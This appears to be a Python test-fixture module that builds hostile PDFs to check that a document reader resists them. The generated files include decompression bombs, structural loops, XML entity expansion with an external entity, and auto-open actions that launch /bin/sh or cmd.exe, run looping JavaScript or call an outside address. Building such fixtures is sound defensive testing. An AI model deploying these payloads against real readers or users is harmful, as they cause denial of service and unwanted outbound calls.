"""Hostile PDFs: bombs, loops, endless trees, programs, and letters cut off."""

import io
import zlib
from collections.abc import Callable, Sequence

from pypdf import PdfReader, PdfWriter
from reportlab.pdfgen.canvas import Canvas

from bench.hostile.values import ANY, BROKEN, MEBIBYTE, READ, STOPPED, Hostile, deflated, ends

_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_ONE_PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
LINES = (
    "SAMPLE Northlight Pictures LLC",
    "April 2, 2026",
    "To whom it may concern: this letter verifies the employment of Jordan Q. Sample,",
    "who worked as a Grip under Local 80 on the feature film Harbor Lanterns on",
    "01/05/2026  01/06/2026  01/07/2026  01/08/2026  01/09/2026",
    "Sincerely, Avery Example, Payroll Coordinator",
)


def letter() -> bytes:
    """Return an ordinary letter of one page: the good file that must still be read."""
    out = io.BytesIO()
    canvas = Canvas(out)
    for row, line in enumerate(LINES):
        canvas.drawString(72, 720 - 24 * row, line)
    canvas.save()
    return out.getvalue()


def written(objects: Sequence[bytes], more: bytes = b"") -> bytes:
    """Return a PDF of these objects, numbered from 1, with ``more`` in its trailer."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        more,
        start,
    )
    return bytes(out)


def stream(data: bytes, head: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), head, data)


def page(resources: bytes = b"<</Font<</F 5 0 R>>>>", box: bytes = b"0 0 612 792") -> bytes:
    """Return a page object whose contents are object 4."""
    return (
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources%s>>"
        % (box, resources)
    )  # fmt: skip


def _drawn(contents: bytes, *more: bytes, resources: bytes = b"<</Font<</F 5 0 R>>>>") -> bytes:
    return written([_CATALOG, _ONE_PAGE, page(resources), contents, _FONT, *more])


def _flate_bomb(_: str) -> bytes:
    return _drawn(stream(deflated(b" " * MEBIBYTE, 1024), b"/Filter/FlateDecode"))


def _double_bomb(_: str) -> bytes:
    twice = zlib.compress(deflated(b" " * MEBIBYTE, 4096), 9)
    return _drawn(stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))


def _many_filters(_: str) -> bytes:
    data = b"BT /F 12 Tf 72 700 Td (SAMPLE) Tj ET"
    for _each in range(200):
        data = zlib.compress(data)
    return _drawn(stream(data, b"/Filter[%s]" % (b"/FlateDecode" * 200)))


def _picture(head: bytes, data: bytes) -> bytes:
    image = b"/Type/XObject/Subtype/Image/ColorSpace/DeviceGray/BitsPerComponent 8" + head
    return _drawn(
        stream(b"q 600 0 0 700 0 0 cm /I Do Q"),
        stream(data, image),
        resources=b"<</XObject<</I 6 0 R>>>>",
    )


def _picture_bomb(_: str) -> bytes:
    head = b"/Width 6000/Height 8000/Filter/FlateDecode"
    return _picture(head, deflated(b"\xff" * MEBIBYTE, 1024))


def _giant_picture(_: str) -> bytes:
    return _picture(b"/Width 60000/Height 60000/Filter/FlateDecode", deflated(b"\xff", 9))


def _deep(opening: bytes, closing: bytes) -> Callable[[str], bytes]:
    depth = 100_000
    return lambda _: written(
        [
            b"<</Type/Catalog/Pages 2 0 R/Deep %s%s>>" % (opening * depth, closing * depth),
            _ONE_PAGE,
            page(),
            stream(opening * depth + closing * depth),
            _FONT,
        ]
    )


def _page_tree_loop(_: str) -> bytes:
    return written([_CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])


def _deep_page_tree(_: str) -> bytes:
    nodes = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (n + 1, n - 1)
        for n in range(2, 20_002)
    ]
    return written([_CATALOG, *nodes, b"<</Type/Page/MediaBox[0 0 612 792]/Parent 20001 0 R>>"])


def _xref_loop(_: str) -> bytes:
    data = letter()
    start = int(data.rpartition(b"startxref")[2].split()[0])
    return data.replace(b"trailer\n<<", b"trailer\n<<\n/Prev %d" % start, 1)


def _many_pages(_: str) -> bytes:
    count = 100_000
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(count))
    one = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return written([_CATALOG, b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count), *[one] * count])


def _one_page_many_times(_: str) -> bytes:
    count = 100_000
    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"3 0 R " * count, count)
    return written([_CATALOG, tree, page(), stream(b""), _FONT])


def _of_size(box: bytes) -> Callable[[str], bytes]:
    return lambda _: written([_CATALOG, _ONE_PAGE, page(box=box), stream(b"0 0 m 9 9 l S"), _FONT])


def _with_action(action: bytes) -> Callable[[str], bytes]:
    def make(address: str) -> bytes:
        reader = PdfReader(io.BytesIO(letter()))
        writer = PdfWriter(clone_from=reader)
        out = io.BytesIO()
        writer.write(out)
        data = out.getvalue()
        said = action.replace(b"ADDRESS", address.encode())
        return data.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction %s" % said, 1)

    return make


def _script_form(address: str) -> bytes:
    script = b"app.launchURL('%s'); while(true){}" % address.encode()
    field = (
        b"<</FT/Tx/T(name)/V(Jo)/Subtype/Widget/Rect[9 9 99 30]"
        b"/AA<</K<</S/JavaScript/JS(%s)>>/C<</S/JavaScript/JS(%s)>>>>>>" % (script, script)
    )
    catalog = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>>>"
    sheet = page()[:-2] + b"/Annots[6 0 R]>>"
    return written([catalog, _ONE_PAGE, sheet, stream(b""), _FONT, field])


def _field_loop(_: str) -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]>>>>"
    field = b"<</T(a)/FT/Tx/Kids[6 0 R 7 0 R]/Parent 7 0 R>>"
    other = b"<</T(b)/FT/Tx/Kids[6 0 R]/Parent 6 0 R/Subtype/Widget/Rect[9 9 99 30]>>"
    sheet = page()[:-2] + b"/Annots[6 0 R 7 0 R]>>"
    return written([catalog, _ONE_PAGE, sheet, stream(b""), _FONT, field, other])


def _many_fields(_: str) -> bytes:
    count = 30_000
    kids = b" ".join(b"%d 0 R" % (n + 6) for n in range(count))
    catalog = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[%s]>>>>" % kids
    fields = [
        b"<</FT/Tx/T(f%d)/V(x)/Subtype/Widget/Rect[9 9 99 30]/P 3 0 R>>" % n for n in range(count)
    ]
    sheet = page()[:-2] + b"/Annots[%s]>>" % kids
    return written([catalog, _ONE_PAGE, sheet, stream(b""), _FONT, *fields])


def _xfa(address: str) -> bytes:
    entities = b"".join(b'<!ENTITY e%d "%s">' % (n + 1, b"&e%d;" % n * 10) for n in range(12))
    data = (
        b'<!DOCTYPE d [<!ENTITY e0 "lol"><!ENTITY x SYSTEM "%s">%s]><xfa:datasets xmlns:xfa='
        b'"http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data>&e12;&x;</xfa:data></xfa:datasets>'
        % (address.encode(), entities)
    )
    catalog = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA[(datasets) 6 0 R]>>>>"
    return written([catalog, _ONE_PAGE, page(), stream(b""), _FONT, stream(data)])


def _embedded(_: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(letter())))
    writer.add_attachment("letter.exe", b"MZ" + bytes(5000))
    writer.add_attachment("again.pdf", letter())
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _broken_font(kind: bytes) -> Callable[[str], bytes]:
    def make(_: str) -> bytes:
        font = b"<</Type/Font/Subtype/TrueType/BaseFont/Bad/FontDescriptor 7 0 R/ToUnicode 8 0 R>>"
        descriptor = b"<</Type/FontDescriptor/FontName/Bad/Flags 4/%s 6 0 R>>" % kind
        maps = b"1 begincodespacerange <00> <ff> endcodespacerange " + (
            b"100 beginbfrange " + b"<00> <ffffffff> <0041> " * 100 + b"endbfrange "
        )
        noise = bytes(range(256)) * 400
        return written(
            [
                _CATALOG,
                _ONE_PAGE,
                page(),
                stream(b"BT /F 12 Tf 72 700 Td (Jo Sample worked) Tj ET"),
                font,
                stream(b"\x00\x01\x00\x00\xff\xff" + noise),
                descriptor,
                stream(maps * 200),
            ]
        )

    return make


def _self_drawing(_: str) -> bytes:
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</I 6 0 R>>>>"
    return _drawn(
        stream(b"/I Do"), stream(b"/I Do /I Do", head), resources=b"<</XObject<</I 6 0 R>>>>"
    )


def _drawing_laughs(_: str) -> bytes:
    forms = []
    for number in range(6, 18):
        inner = b"<</XObject<</I %d 0 R>>>>" % (number + 1)
        head = b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources%s" % inner
        forms.append(stream(b"/I Do " * 10, head))
    last = stream(b"0 0 9 9 re f ", b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]")
    return _drawn(stream(b"/I Do"), *forms, last, resources=b"<</XObject<</I 6 0 R>>>>")


def _many_strokes(_: str) -> bytes:
    strokes = b"".join(
        b"%d %d m %d %d l S " % (n % 600, n % 700, n % 599, 9) for n in range(200_000)
    )
    return _drawn(stream(zlib.compress(strokes), b"/Filter/FlateDecode"))


def _tiny_tiles(_: str) -> bytes:
    tile = stream(
        b"0 0 .01 .01 re f",
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 .01 .01]/XStep .01"
        b"/YStep .01/Resources<<>>",
    )
    return _drawn(
        stream(b"/Pattern cs /P scn 0 0 612 792 re f"), tile, resources=b"<</Pattern<</P 6 0 R>>>>"
    )


def _endless_text(_: str) -> bytes:
    words = b"".join(
        b"BT /F 1 Tf %d %d Td (01/05/2026 Grip) Tj ET " % (n % 600, n % 780) for n in range(120_000)
    )
    return _drawn(stream(zlib.compress(words), b"/Filter/FlateDecode"))


def _object_stream_loop(_: str) -> bytes:
    loop = stream(b"6 0 <</Type/Page>>", b"/Type/ObjStm/N 1/First 4/Extends 6 0 R")
    return written(
        [_CATALOG, b"<</Type/Pages/Kids[6 0 R]/Count 1>>", page(), stream(b""), _FONT, loop]
    )


def _locked(_: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(letter())))
    writer.encrypt("secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _cut(tenths: int) -> Callable[[str], bytes]:
    return lambda _: (data := letter())[: len(data) * tenths // 10]


_URI = b"<</S/URI/URI(ADDRESS)>>"
_SUBMIT = b"<</S/SubmitForm/F<</FS/URL/F(ADDRESS)>>>>"
_LAUNCH = b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>"
_SCRIPT = b"<</S/JavaScript/JS(app.launchURL\\('ADDRESS'\\); while\\(true\\){})>>"
_REMOTE = b"<</S/GoToR/F<</FS/URL/F(ADDRESS)>>/D[0/Fit]>>"

PDFS = (
    Hostile("flate bomb.pdf", _flate_bomb, STOPPED | BROKEN),
    Hostile("double flate bomb.pdf", _double_bomb, STOPPED | BROKEN),
    Hostile("two hundred filters.pdf", _many_filters, ANY),
    Hostile("picture bomb.pdf", _picture_bomb, ANY, is_costly=True),
    Hostile("giant picture.pdf", _giant_picture, ends("image-too-large")),
    Hostile("deep arrays.pdf", _deep(b"[", b"]"), ANY),
    Hostile("deep dictionaries.pdf", _deep(b"<</A", b">>"), ANY),
    Hostile("page tree loop.pdf", _page_tree_loop, ANY),
    Hostile("deep page tree.pdf", _deep_page_tree, ANY),
    Hostile("xref loop.pdf", _xref_loop, ANY),
    Hostile("100,000 pages.pdf", _many_pages, ends("too-many-pages")),
    Hostile("one page 100,000 times.pdf", _one_page_many_times, ends("too-many-pages")),
    Hostile("huge page.pdf", _of_size(b"0 0 200000 200000"), ends("image-too-large")),
    Hostile("endless page.pdf", _of_size(b"-1e38 -1e38 1e38 1e38"), ANY | {"image-too-large"}),
    Hostile("no page at all.pdf", _of_size(b"0 0 0 0"), ANY),
    Hostile("opens an address.pdf", _with_action(_URI), ends(READ)),
    Hostile("submits to an address.pdf", _with_action(_SUBMIT), ends(READ)),
    Hostile("opens a remote file.pdf", _with_action(_REMOTE), ends(READ)),
    Hostile("starts a program.pdf", _with_action(_LAUNCH), ends(READ)),
    Hostile("runs a script.pdf", _with_action(_SCRIPT), ends(READ)),
    Hostile("form with scripts.pdf", _script_form, ANY),
    Hostile("fields in a loop.pdf", _field_loop, ANY),
    Hostile("30,000 fields.pdf", _many_fields, ANY, is_costly=True),
    Hostile("XFA laughs.pdf", _xfa, ANY),
    Hostile("files inside.pdf", _embedded, ends(READ)),
    Hostile("broken TrueType font.pdf", _broken_font(b"FontFile2"), ANY),
    Hostile("broken Type 1 font.pdf", _broken_font(b"FontFile"), ANY),
    Hostile("draws itself.pdf", _self_drawing, ANY),
    Hostile("drawing laughs.pdf", _drawing_laughs, ANY, is_costly=True),
    Hostile("200,000 strokes.pdf", _many_strokes, ANY, is_costly=True),
    Hostile("tiny tiles.pdf", _tiny_tiles, ANY),
    Hostile("endless text.pdf", _endless_text, ANY, is_costly=True),
    Hostile("object stream loop.pdf", _object_stream_loop, ANY),
    Hostile("locked.pdf", _locked, ends("encrypted-file")),
    Hostile("web page and letter.pdf", lambda _: b"<html><script>" + letter(), ends(READ)),
    *(
        Hostile(f"cut off at {tenths} tenths.pdf", _cut(tenths), BROKEN | {"unknown-type"})
        for tenths in range(1, 10)
    ),
)
"""Every hostile PDF."""
